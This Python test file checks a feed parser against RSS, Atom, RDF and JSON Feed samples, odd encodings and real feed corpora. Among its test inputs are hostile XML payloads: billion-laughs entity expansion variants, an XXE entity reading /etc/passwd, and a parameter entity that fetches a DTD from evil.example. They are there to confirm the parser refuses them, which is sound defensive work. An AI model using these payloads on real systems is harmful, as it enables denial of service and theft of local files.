"""parse_feed on real feeds (RSS, Atom, RDF, JSON Feed, odd encodings) and hostile input."""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import urljoin

import pytest

from corroborate.domain import ParsedFeed
from corroborate.errors import ParseError
from corroborate.ingest.feedparse import ENTITY_REFUSAL, parse_feed

from .conftest import need_shared

BASE = "https://example.org/feeds/feed.xml"

RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>T &amp; co</title><language>fr-FR</language>
<item><title>One</title><link>/a/one</link><pubDate>Tue, 05 Mar 2024 10:00:00 +0200</pubDate>
  <description>&lt;p&gt;Hello &lt;b&gt;world&lt;/b&gt;&lt;/p&gt;</description>\
<author>x@y.z (Ann)</author></item>
<item><title>No link</title><description>skipped</description></item>
<item><title>Two</title><link>https://other.example/two</link><guid>g2</guid></item>
<item><title>Mail</title><link>mailto:a@b.c</link></item>
<item><title>Dup</title><link>https://example.org/a/one</link></item>
</channel></rss>"""


def test_rss_entries_links_dates_and_text() -> None:
    feed = parse_feed(RSS, BASE)
    assert feed.title == "T & co"
    assert feed.format == "rss20"
    assert feed.language == "fr-fr"
    assert feed.warning == ""
    assert [e.url for e in feed.entries] == ["https://example.org/a/one", "https://other.example/two"]
    one, two = feed.entries
    assert one.published == datetime(2024, 3, 5, 8, 0, tzinfo=UTC)
    assert one.published is not None and one.published.tzinfo is not None
    assert one.summary == "Hello world"
    assert two.published is None and two.guid == "g2"


def test_atom_and_rdf() -> None:
    atom = b"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>
    <entry><title>E</title><link rel="alternate" href="https://example.org/e"/>
    <updated>2024-01-02T03:04:05Z</updated><id>urn:1</id></entry></feed>"""
    feed = parse_feed(atom, BASE)
    assert feed.format == "atom10"
    assert feed.entries[0].published == datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)
    rdf = b"""<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
    xmlns="http://purl.org/rss/1.0/"><channel rdf:about="x"><title>R</title></channel>
    <item rdf:about="https://example.org/r"><title>R1</title><link>https://example.org/r</link></item></rdf:RDF>"""
    assert parse_feed(rdf, BASE).format == "rss10"


def test_json_feed() -> None:
    doc = {"version": "https://jsonfeed.org/version/1.1", "title": "J", "language": "ar",
           "items": [{"id": "1", "url": "/p/1", "title": "<b>Hi</b>", "content_text": "body",
                      "date_published": "2021-03-05T13:04:04+02:00", "authors": [{"name": "Rana"}]},
                     {"id": "no-url"}]}
    feed = parse_feed(json.dumps(doc).encode(), BASE, content_type="application/feed+json")
    assert feed.format == "json11" and feed.language == "ar"
    (entry,) = feed.entries
    assert entry.url == "https://example.org/p/1"
    assert entry.title == "Hi" and entry.author == "Rana" and entry.summary == "body"
    assert entry.published == datetime(2021, 3, 5, 11, 4, 4, tzinfo=UTC)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "empty feed: the body is empty"),
        (
            b"<!DOCTYPE html><html><head><title>x</title></head><body><p>hi</p></body></html>",
            "not a feed: looks like an HTML page",
        ),
        (
            b"<?xml version='1.0'?>\n<rss version='2.0'>\n"
            b"<channel><title>x</title>\n<item><title>a</item>",
            "malformed XML: mismatched tag at line 4",
        ),
        (
            b"<?xml version='1.0'?><rss version='2.0'><channel><title>x</title></channel></rss>",
            "empty feed",
        ),
        (
            b"<?xml version='1.0'?><catalog><book/></catalog>",
            "not a feed: unrecognised root element <catalog>",
        ),
        (b"just some words", "not a feed: no XML root element"),
        (b'{"hello": 1}', "not a feed: JSON without a https://jsonfeed.org/version/"),
        (b'{"version": "https://jsonfeed.org/version/1", "items": [', "malformed JSON"),
        (b'{"version": "https://jsonfeed.org/version/1", "items": []}', "empty feed"),
    ],
)
def test_clear_reasons(body: bytes, reason: str) -> None:
    with pytest.raises(ParseError) as info:
        parse_feed(body, BASE)
    assert info.value.reason.startswith(reason), info.value.reason
    assert info.value.source == BASE


def test_ill_formed_feed_with_entries_is_used_with_a_warning() -> None:
    body = b"<?xml version='1.0'?><rss version='2.0'><channel><title>x</title>" \
           b"<item><title>Caf&eacute; &nbsp;</title><link>https://example.org/1</link></item></channel></rss>"
    feed = parse_feed(body, BASE)
    assert [e.url for e in feed.entries] == ["https://example.org/1"]
    assert feed.warning  # undefined entities make feedparser fall back on its loose parser


def billion_laughs(levels: int = 10) -> bytes:
    decls = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels)
    ]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n' + "\n".join(decls) + "\n]>\n"
        f'<rss version="2.0"><channel><title>&lol{levels - 1};</title>'
        "<item><link>https://example.org/x</link></item></channel></rss>"
    ).encode()


@pytest.mark.parametrize(
    "body",
    [
        billion_laughs(),
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<rss version="2.0"><channel><title>&xxe;</title></channel></rss>',
        b'<?xml version="1.0"?>'
        b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
        # Declarations not at the start of a line slip past feedparser's own doctype filter.
        b'<!DOCTYPE rss [<!ENTITY a "&#38;b;"><!ENTITY b "&a;&a;">]><rss version="2.0"/>',
        billion_laughs().decode().encode("utf-16"),
        billion_laughs().decode().encode("utf-16-le"),  # no BOM
        billion_laughs().replace(b"<!DOCTYPE rss [", b'<!DOCTYPE rss [<!ENTITY trick "]>">'),
        billion_laughs().replace(
            b"<!DOCTYPE rss [", b"<!DOCTYPE rss [<!--" + b"x" * (1 << 20) + b"-->"
        ),
    ],
    ids=[
        "billion-laughs",
        "xxe",
        "parameter-entity",
        "inline",
        "utf16-billion-laughs",
        "utf16-no-bom",
        "subset-end-in-value",
        "padded-subset",
    ],
)
def test_refuses_entity_expansion(body: bytes) -> None:
    start = time.perf_counter()
    with pytest.raises(ParseError) as info:
        parse_feed(body, BASE)
    assert info.value.reason.startswith(ENTITY_REFUSAL) or "prolog" in info.value.reason
    assert time.perf_counter() - start < 5  # refused up front, never expanded


def test_refuses_a_prolog_too_long_to_check() -> None:
    body = (
        b"<?xml version='1.0'?><!--"
        + b"x" * (1 << 20)
        + b"--><!DOCTYPE rss [<!ENTITY a 'x'>]><rss/>"
    )
    with pytest.raises(ParseError, match=r"prolog .* exceeds"):
        parse_feed(body, BASE)


def test_harmless_doctypes_are_accepted() -> None:
    netscape = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel>'
        b"<title>N</title><item><title>i</title><link>https://example.org/n</link></item></channel></rss>"
    )
    assert parse_feed(netscape, BASE).entries[0].url == "https://example.org/n"
    plain_entity = (
        b'<!DOCTYPE rss [ <!ENTITY site "Example &#169;"> ]><rss version="2.0"><channel>'
        b"<title>&site;</title><item><link>https://example.org/p</link></item></channel></rss>"
    )
    assert parse_feed(plain_entity, BASE).entries[0].url == "https://example.org/p"


def test_a_body_that_names_a_local_file_is_not_read_as_one() -> None:
    with pytest.raises(ParseError):
        parse_feed(b"/etc/passwd", BASE)


# --- the real feeds ----------------------------------------------------------------------------

NOT_FEEDS = {  # real files that are not usable feeds, with the reason we must give
    "DaringFireball.html": "not a feed: looks like an HTML page",
    "YouTubeTheVolvoRocks.html": "not a feed: looks like an HTML page",
    "coco.html": "not a feed: looks like an HTML page",
    "furbo.html": "not a feed: looks like an HTML page",
    "inessential.html": "not a feed: looks like an HTML page",
    "sixcolors.html": "not a feed: looks like an HTML page",
    "unrecognized.rss": "not a feed: looks like an HTML page",  # an HTML "Document Moved" page
    "ScriptingNews.json": "not a feed: JSON without",  # RSS mapped to JSON, not JSON Feed
    "allthis-partial.json": "malformed JSON",  # truncated on purpose
    "authors.json": "empty feed: 4 items, none with a usable link",  # items have no url
    "jsonfeed-extension.json": "empty feed: 3 items, none with a usable link",
    "incomplete-fields.atom": "empty feed: 1 entries, none with a usable",
    "missing-fields.atom": "empty feed: 1 entries, none with a usable",
}


def real_feed_files() -> list[Path]:
    root = need_shared("data", "feeds")
    files = sorted((root / "rss-parser" / "input").iterdir()) + sorted(
        (root / "netnewswire").iterdir()
    )
    return [p for p in files if p.suffix != ".opml" and p.name != "LICENSE"]


def test_real_feeds_parse() -> None:
    files = real_feed_files()
    formats: set[str] = set()
    parsed = 0
    for path in files:
        url = f"https://example.org/feeds/{path.name}"
        if path.name in NOT_FEEDS:
            with pytest.raises(ParseError) as info:
                parse_feed(path.read_bytes(), url)
            assert info.value.reason.startswith(NOT_FEEDS[path.name]), (
                path.name,
                info.value.reason,
            )
            continue
        feed = parse_feed(path.read_bytes(), url)
        parsed += 1
        formats.add(feed.format)
        assert feed.entries, path.name
        for entry in feed.entries:
            assert entry.url.startswith(("http://", "https://")), (path.name, entry.url)
            assert entry.published is None or entry.published.utcoffset() is not None
    assert parsed >= 55
    assert {"rss20", "rss10", "atom10", "json10", "json11"} <= formats


def test_real_feeds_match_rss_parser_expected_links() -> None:
    root = need_shared("data", "feeds", "rss-parser")
    checked = 0
    for expected_path in sorted((root / "output").glob("*.json")):
        expected = json.loads(expected_path.read_bytes().decode("utf-8", "replace"))
        links = [i["link"].strip() for i in expected["feed"].get("items", []) if i.get("link")]
        if not links:
            continue
        (source,) = (root / "input").glob(expected_path.stem + ".*")
        url = f"https://example.org/feeds/{source.name}"
        feed = parse_feed(source.read_bytes(), url)
        assert [e.url for e in feed.entries] == list(
            dict.fromkeys(urljoin(url, u) for u in links)
        ), source.name
        checked += 1
    assert checked >= 25


def test_non_utf8_encodings_decode() -> None:
    root = need_shared("data", "feeds")
    feed = parse_feed((root / "rss-parser" / "input" / "encoding.rss").read_bytes(), BASE)
    assert any("ã" in e.title for e in feed.entries)  # Portuguese in ISO-8859-1
    feed = parse_feed((root / "netnewswire" / "kc0011.rss").read_bytes(), BASE)
    assert feed.language == "zh-cn" and "建国" in feed.entries[0].title  # GB2312/GBK
    uol = parse_feed((root / "rss-parser" / "input" / "uolNoticias.rss").read_bytes(), BASE)
    assert "parsed as" in uol.warning and any("ç" in e.title or "ã" in e.title for e in uol.entries)


@pytest.mark.parametrize("kind", ["wellformed", "illformed"])
def test_feedparser_corpus_never_crashes(kind: str) -> None:
    root = need_shared("data", "feeds", "feedparser", kind)
    outcomes = {"feed": 0, "error": 0}
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        try:
            result = parse_feed(path.read_bytes(), f"http://example.org/{path.name}")
        except ParseError as exc:
            assert exc.reason, path
            outcomes["error"] += 1
        else:
            assert isinstance(result, ParsedFeed) and result.entries
            outcomes["feed"] += 1
    # Most of these files test one element each and have no entry links: errors are expected.
    assert outcomes["feed"] >= (60 if kind == "wellformed" else 1)
